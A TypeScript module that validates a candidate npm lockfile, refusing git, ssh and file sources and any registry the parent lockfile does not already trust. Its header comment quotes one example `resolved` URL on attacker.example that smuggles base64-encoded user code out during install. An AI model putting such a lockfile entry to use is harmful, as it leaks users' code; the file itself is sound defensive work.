/**
 * What a candidate's lockfile may make `npm ci` fetch. The install runs with the host's network, so every URL in the
 * lockfile is a request the candidate chose: `resolved: "https://attacker.example/<the code, base64>.tgz"` would carry
 * the user's code out, and a git or ssh source runs git with the network. Only tarballs from registries the user's
 * own lockfile already trusts (the parent's; always npm's public registry) are allowed, over https; local links
 * (workspaces, `link: true`) need no network and pass.
 */
import { z } from 'zod';

export const DEFAULT_REGISTRY = 'https://registry.npmjs.org';
const URLISH = /^(?:[a-z][a-z0-9+.-]*:\/\/|(?:git|github|gitlab|bitbucket|gist|file|link)[:+])/i;

const Entry = z.looseObject({ resolved: z.string().optional(), link: z.boolean().optional() });
const Lockfile = z.looseObject({
  packages: z.record(z.string(), Entry).optional(),
  dependencies: z.record(z.string(), z.unknown()).optional(),
});

/** Every `resolved` of a lockfile (v1 nested `dependencies`, v2/v3 `packages`), with the entry's name. */
function sources(text: string): { name: string; resolved: string; link: boolean }[] | null {
  let parsed: z.infer<typeof Lockfile>;
  try {
    parsed = Lockfile.parse(JSON.parse(text));
  } catch {
    return null;
  }
  const found: { name: string; resolved: string; link: boolean }[] = [];
  for (const [name, entry] of Object.entries(parsed.packages ?? {})) {
    if (entry.resolved !== undefined) found.push({ name: name || '(root)', resolved: entry.resolved, link: entry.link === true });
  }
  const walk = (deps: Record<string, unknown> | undefined) => {
    for (const [name, raw] of Object.entries(deps ?? {})) {
      const entry = z.looseObject({
        resolved: z.string().optional(), version: z.string().optional(), dependencies: z.record(z.string(), z.unknown()).optional(),
      }).safeParse(raw);
      if (!entry.success) continue;
      // A v1 git or URL dependency may name its source in `version` alone.
      const source = entry.data.resolved ?? (entry.data.version && URLISH.test(entry.data.version) ? entry.data.version : undefined);
      if (source !== undefined) found.push({ name, resolved: source, link: false });
      walk(entry.data.dependencies);
    }
  };
  walk(parsed.dependencies);
  return found;
}

/** The origin of an http(s) URL; null for anything else (git, ssh, file, a path). */
function originOf(url: string): string | null {
  try {
    const u = new URL(url);
    return u.protocol === 'https:' || u.protocol === 'http:' ? u.origin : null;
  } catch {
    return null;
  }
}

/** The registries a lockfile fetches from (http(s) origins): what the user already trusts. */
export function trustedOrigins(parentLockfile: string | null): Set<string> {
  const origins = new Set([DEFAULT_REGISTRY]);
  for (const s of (parentLockfile && sources(parentLockfile)) || []) {
    const origin = originOf(s.resolved);
    if (origin) origins.add(origin);
  }
  return origins;
}

/**
 * Why npm ci must not run on this lockfile, or null when every source is a tarball from a trusted registry (or a
 * local link). One line, naming the first offending package. Credentials in a URL are never echoed.
 */
export function refuseLockfile(text: string, trusted: Set<string>): string | null {
  const all = sources(text);
  if (all === null) return 'the lockfile is not valid JSON';
  for (const s of all) {
    if (s.link) continue;
    const origin = originOf(s.resolved);
    if (!origin) return `the lockfile fetches ${s.name} from ${JSON.stringify(s.resolved.replace(/\/\/[^/@]*@/, '//…@').slice(0, 120))}: only tarballs from a trusted registry are installed`;
    if (!trusted.has(origin)) {
      return `the lockfile fetches ${s.name} from ${origin}, a registry the parent's lockfile does not use (trusted: ${[...trusted].join(', ')})`;
    }
  }
  return null;
}
